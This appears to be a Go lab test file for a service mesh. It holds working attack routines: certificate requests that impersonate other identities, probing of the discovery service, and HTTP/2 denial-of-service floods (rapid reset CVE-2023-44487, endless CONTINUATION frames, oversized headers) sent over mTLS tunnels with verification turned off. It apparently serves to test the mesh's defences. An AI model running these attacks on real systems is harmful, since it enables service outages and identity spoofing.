//go:build lab

package lab_test

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discovery "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/structpb"

	"github.com/marrowmesh/marrow/api/ca"
	"github.com/marrowmesh/marrow/internal/identity"
	"github.com/marrowmesh/marrow/internal/mtls"
)

const (
	controlPlane = "istiod.istio-system.svc:15012"
	tokenFile    = "/var/run/secrets/tokens/istio-token"
	rootFile     = "/var/run/secrets/istio/root-cert.pem"
)

// token says with what a caller proves itself: "pod" is the pod's own, "" none, anything else is taken as it is.
func bearer(ctx context.Context, token string) (context.Context, error) {
	if token == "" {
		return ctx, nil
	}
	if token == "pod" {
		raw, err := os.ReadFile(tokenFile)
		if err != nil {
			return nil, err
		}
		token = string(raw)
	}
	return metadata.AppendToOutgoingContext(ctx, "authorization", "Bearer "+token, "ClusterID", "Kubernetes"), nil
}

func dialControlPlane() (*grpc.ClientConn, error) {
	creds, err := credentials.NewClientTLSFromFile(rootFile, "istiod.istio-system.svc")
	if err != nil {
		return nil, err
	}
	return grpc.NewClient(controlPlane, grpc.WithTransportCredentials(creds))
}

// csrArgs asks for a certificate.
type csrArgs struct {
	Token       string
	Identity    string // in the request's SAN
	Impersonate string // in the metadata; "" = none
	CSR         string // instead of a good one
	Seconds     int64
}

// signed is the authority's answer.
type signed struct {
	Code    string
	Message string
	Chain   []string
	Key     string // PEM
	URIs    []string
}

func insideCSR(ctx context.Context, raw []byte) (any, error) {
	var a csrArgs
	if err := json.Unmarshal(raw, &a); err != nil {
		return nil, err
	}
	id, err := identity.Parse(a.Identity)
	if err != nil {
		return nil, err
	}
	key, csr, err := mtls.NewRequest(id)
	if err != nil {
		return nil, err
	}
	if a.CSR != "" {
		csr = a.CSR
	}
	conn, err := dialControlPlane()
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	if ctx, err = bearer(ctx, a.Token); err != nil {
		return nil, err
	}
	req := &ca.IstioCertificateRequest{Csr: csr, ValidityDuration: a.Seconds}
	if a.Impersonate != "" {
		if req.Metadata, err = structpb.NewStruct(map[string]any{"ImpersonatedIdentity": a.Impersonate}); err != nil {
			return nil, err
		}
	}
	resp, err := ca.NewIstioCertificateServiceClient(conn).CreateCertificate(ctx, req)
	if err != nil {
		s, _ := status.FromError(err)
		return signed{Code: s.Code().String(), Message: s.Message()}, nil
	}
	return answerCSR(key, resp)
}

func answerCSR(key *ecdsa.PrivateKey, resp *ca.IstioCertificateResponse) (any, error) {
	der, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		return nil, err
	}
	out := signed{Code: codes.OK.String(), Chain: resp.GetCertChain(), Key: string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))}
	block, _ := pem.Decode([]byte(resp.GetCertChain()[0]))
	leaf, err := x509.ParseCertificate(block.Bytes)
	if err != nil {
		return nil, err
	}
	for _, u := range leaf.URIs {
		out.URIs = append(out.URIs, u.String())
	}
	return out, nil
}

// discoverArgs opens a discovery stream.
type discoverArgs struct {
	Token    string
	NodeID   string
	Metadata map[string]any
	Type     string
}

// discovered is what the stream said first.
type discovered struct {
	Code    string
	Message string
	Names   []string
	Bodies  string // all bodies, for a search
}

func insideDiscover(ctx context.Context, raw []byte) (any, error) {
	var a discoverArgs
	if err := json.Unmarshal(raw, &a); err != nil {
		return nil, err
	}
	conn, err := dialControlPlane()
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	if ctx, err = bearer(ctx, a.Token); err != nil {
		return nil, err
	}
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	node := &corev3.Node{Id: a.NodeID}
	if node.Metadata, err = structpb.NewStruct(a.Metadata); err != nil {
		return nil, err
	}
	stream, err := discovery.NewAggregatedDiscoveryServiceClient(conn).DeltaAggregatedResources(ctx)
	if err == nil {
		err = stream.Send(&discovery.DeltaDiscoveryRequest{Node: node, TypeUrl: a.Type})
	}
	var resp *discovery.DeltaDiscoveryResponse
	if err == nil || errors.Is(err, io.EOF) {
		resp, err = stream.Recv()
	}
	if err != nil {
		s, _ := status.FromError(err)
		return discovered{Code: s.Code().String(), Message: s.Message()}, nil
	}
	out := discovered{Code: codes.OK.String()}
	for _, r := range resp.GetResources() {
		out.Names = append(out.Names, r.GetName())
		out.Bodies += string(r.GetResource().GetValue())
	}
	return out, nil
}

// tunnelArgs opens a mesh connection and misuses it.
type tunnelArgs struct {
	Dst        string // address:15008
	Chain, Key string // PEM; empty = no client certificate
	TLS12      bool
	ALPN       []string // nil = h2
	Attack     string   // see insideTunnel; "" = the requests
	Requests   [][]field
	Body       string // sent on a stream that was accepted
}

type field struct{ Name, Value string }

// connectTo are the header fields of an honest CONNECT.
func connectTo(authority string, more ...field) []field {
	return append([]field{{":method", "CONNECT"}, {":authority", authority}}, more...)
}

// tunnelEnd is how it went.
type tunnelEnd struct {
	Dial    string
	TLS     string // the handshake's, or the first read's, error
	Peer    string // identity that the server presented
	Answers []answer
	GoAway  string // error code
	End     string // why reading ended
	Sent    int    // frames that an attack could send
}

type answer struct {
	Status string
	Reset  string
	Data   string
}

func insideTunnel(ctx context.Context, raw []byte) (any, error) {
	var a tunnelArgs
	if err := json.Unmarshal(raw, &a); err != nil {
		return nil, err
	}
	d := net.Dialer{Timeout: 5 * time.Second}
	conn, err := d.DialContext(ctx, "tcp", a.Dst)
	if err != nil {
		return tunnelEnd{Dial: err.Error()}, nil
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(8 * time.Second))
	cfg := &tls.Config{InsecureSkipVerify: true, NextProtos: a.ALPN, MinVersion: tls.VersionTLS12}
	if a.ALPN == nil {
		cfg.NextProtos = []string{"h2"}
	}
	if a.TLS12 {
		cfg.MaxVersion = tls.VersionTLS12
	}
	if a.Chain != "" {
		pair, err := tls.X509KeyPair([]byte(a.Chain), []byte(a.Key))
		if err != nil {
			return nil, err
		}
		// As the server asks for certificates of its own authorities, a client that would only send a fitting one would
		// never send a foreign one.
		cfg.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return &pair, nil }
	}
	secure := tls.Client(conn, cfg)
	if err := secure.HandshakeContext(ctx); err != nil {
		return tunnelEnd{TLS: err.Error()}, nil
	}
	var end tunnelEnd
	for _, u := range secure.ConnectionState().PeerCertificates[0].URIs {
		end.Peer = u.String()
	}
	h := &h2{conn: secure, end: &end}
	h.run(a)
	return end, nil
}

// h2 is a client that keeps no rule by itself.
type h2 struct {
	conn   net.Conn
	framer *http2.Framer
	block  bytes.Buffer
	enc    *hpack.Encoder
	end    *tunnelEnd
	mu     sync.Mutex // guards writing by framer
}

func (h *h2) run(a tunnelArgs) {
	h.framer = http2.NewFramer(h.conn, h.conn)
	h.framer.AllowIllegalWrites = true
	h.enc = hpack.NewEncoder(&h.block)
	if a.Attack == "no preface" {
		_, _ = io.WriteString(h.conn, "GET / HTTP/1.1\r\nHost: victim\r\n\r\n")
		h.read(nil, 0)
		return
	}
	_, _ = io.WriteString(h.conn, http2.ClientPreface)
	if a.Attack == "garbage" {
		_, _ = h.conn.Write(bytes.Repeat([]byte{0xff, 0x00, 0x5a, 0xa5}, 4096))
		h.read(nil, 0)
		return
	}
	_ = h.framer.WriteSettings()
	switch a.Attack {
	case "":
		h.requests(a)
	case "huge headers":
		h.hugeHeaders(a.Requests[0])
	case "rapid reset":
		h.rapidReset(a.Requests[0])
	case "endless continuation":
		h.endlessContinuation(a.Requests[0])
	case "data on stream 0":
		h.write(func(f *http2.Framer) error { return f.WriteData(0, false, []byte("x")) })
		h.read(nil, 0)
	}
}

// write sends a frame.
func (h *h2) write(frame func(*http2.Framer) error) bool {
	h.mu.Lock()
	defer h.mu.Unlock()
	if frame(h.framer) != nil {
		return false
	}
	h.end.Sent++
	return true
}

func (h *h2) encode(fields []field) []byte {
	h.block.Reset()
	for _, f := range fields {
		_ = h.enc.WriteField(hpack.HeaderField{Name: f.Name, Value: f.Value})
	}
	return bytes.Clone(h.block.Bytes())
}

func (h *h2) headers(stream uint32, fields []field, end bool) bool {
	block := h.encode(fields)
	return h.write(func(f *http2.Framer) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true, EndStream: end})
	})
}

// requests sends all of them, then waits for each one's answer.
func (h *h2) requests(a tunnelArgs) {
	h.end.Answers = make([]answer, len(a.Requests))
	for i, fields := range a.Requests {
		h.headers(uint32(2*i+1), fields, false)
	}
	h.read([]byte(a.Body), len(a.Requests))
}

func (h *h2) hugeHeaders(fields []field) {
	for i := range 40 {
		fields = append(fields, field{fmt.Sprintf("x-filler-%d", i), strings.Repeat("f", 16000)})
	}
	block := h.encode(fields)
	h.end.Answers = make([]answer, 1)
	first := true
	for len(block) > 0 {
		n := min(len(block), 16000)
		sent := h.write(func(f *http2.Framer) error {
			if first {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:n], EndHeaders: n == len(block)})
			}
			return f.WriteContinuation(1, n == len(block), block[:n])
		})
		if !sent {
			break
		}
		block, first = block[n:], false
	}
	h.read(nil, 1)
}

func (h *h2) endlessContinuation(fields []field) {
	block := h.encode(fields)
	h.write(func(f *http2.Framer) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
	})
	h.whileReading(func() bool {
		return h.write(func(f *http2.Framer) error { return f.WriteContinuation(1, false, nil) })
	})
}

// whileReading sends until it cannot, or the connection has ended; at most so often that every limit must have struck.
func (h *h2) whileReading(send func() bool) {
	over := make(chan struct{})
	go func() {
		defer close(over)
		h.read(nil, 0)
	}()
	for range 50000 {
		if !send() {
			break
		}
	}
	<-over
}

// rapidReset opens streams and cancels each at once (CVE-2023-44487).
func (h *h2) rapidReset(fields []field) {
	id := uint32(1)
	h.whileReading(func() bool {
		ok := h.headers(id, fields, false) && h.write(func(f *http2.Framer) error { return f.WriteRSTStream(id, http2.ErrCodeCancel) })
		id += 2
		return ok
	})
}

// read takes frames until every request has its answer (when there are any), or the connection ends.
func (h *h2) read(body []byte, want int) {
	dec := hpack.NewDecoder(4096, nil)
	done := map[int]bool{}
	mark := func(i int) { done[i] = true }
	for want == 0 || len(done) < want {
		f, err := h.framer.ReadFrame()
		if err != nil {
			h.end.End = err.Error()
			if len(h.end.Answers) == 0 || len(done) == 0 {
				h.end.TLS = tlsAlert(err)
			}
			return
		}
		i := int(f.Header().StreamID-1) / 2
		known := f.Header().StreamID > 0 && i < len(h.end.Answers)
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				h.write(func(f *http2.Framer) error { return f.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				h.write(func(w *http2.Framer) error { return w.WritePing(true, f.Data) })
			}
		case *http2.GoAwayFrame:
			h.end.GoAway = f.ErrCode.String()
		case *http2.HeadersFrame:
			fields, _ := dec.DecodeFull(f.HeaderBlockFragment())
			for _, hf := range fields {
				if known && hf.Name == ":status" {
					h.end.Answers[i].Status = hf.Value
				}
			}
			if known && (len(body) == 0 || h.end.Answers[i].Status != "200" || f.StreamEnded()) {
				mark(i)
			} else if known {
				h.write(func(w *http2.Framer) error { return w.WriteData(f.StreamID, false, body) })
			}
		case *http2.DataFrame:
			if known {
				h.end.Answers[i].Data += string(f.Data())
				if len(body) > 0 && len(f.Data()) > 0 {
					mark(i)
				}
			}
		case *http2.RSTStreamFrame:
			if known {
				h.end.Answers[i].Reset = f.ErrCode.String()
				mark(i)
			}
		}
	}
}

// tlsAlert is the server's verdict on our certificate: in TLS 1.3 it comes after the client's handshake is over.
func tlsAlert(err error) string {
	var op *net.OpError
	if errors.As(err, &op) && strings.Contains(err.Error(), "tls: ") {
		return err.Error()
	}
	return ""
}
